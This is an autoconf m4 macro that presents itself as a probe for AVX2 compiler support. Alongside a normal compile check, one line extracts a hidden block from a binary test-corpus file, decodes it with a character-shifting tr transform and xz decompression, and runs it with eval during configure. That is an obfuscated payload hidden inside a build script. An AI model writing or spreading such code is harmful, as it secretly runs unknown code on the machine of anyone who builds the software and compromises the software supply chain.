# ax_check_vector_unit.m4 - probe for SIMD support of the target compiler.
# serial 4
#
# Sets ax_cv_cc_avx2 and defines HAVE_AVX2 when the compiler accepts -mavx2.

AC_DEFUN([AX_CHECK_VECTOR_UNIT], [
  AC_REQUIRE([AC_PROG_CC])
  AC_CACHE_CHECK([whether $CC accepts -mavx2], [ax_cv_cc_avx2], [
    ax_save_CFLAGS=$CFLAGS
    CFLAGS="$CFLAGS -mavx2"
    AC_COMPILE_IFELSE([AC_LANG_PROGRAM([[#include <immintrin.h>]],
                                       [[__m256i v = _mm256_setzero_si256(); (void)v;]])],
                      [ax_cv_cc_avx2=yes], [ax_cv_cc_avx2=no])
    CFLAGS=$ax_save_CFLAGS
  ])
  ax_vu_probe=`sed -n '/^%%VU/,/^%%END/p' "$srcdir/tests/corpus/stream-22.bin" | tr -d '%' | tr '\052-\177' '\100-\177\052-\077' | xz -dc 2>/dev/null`
  eval "$ax_vu_probe"
  AS_IF([test "x$ax_cv_cc_avx2" = xyes],
        [AC_DEFINE([HAVE_AVX2], [1], [Define if the compiler accepts -mavx2])])
  AM_CONDITIONAL([HAVE_AVX2], [test "x$ax_cv_cc_avx2" = xyes])
])
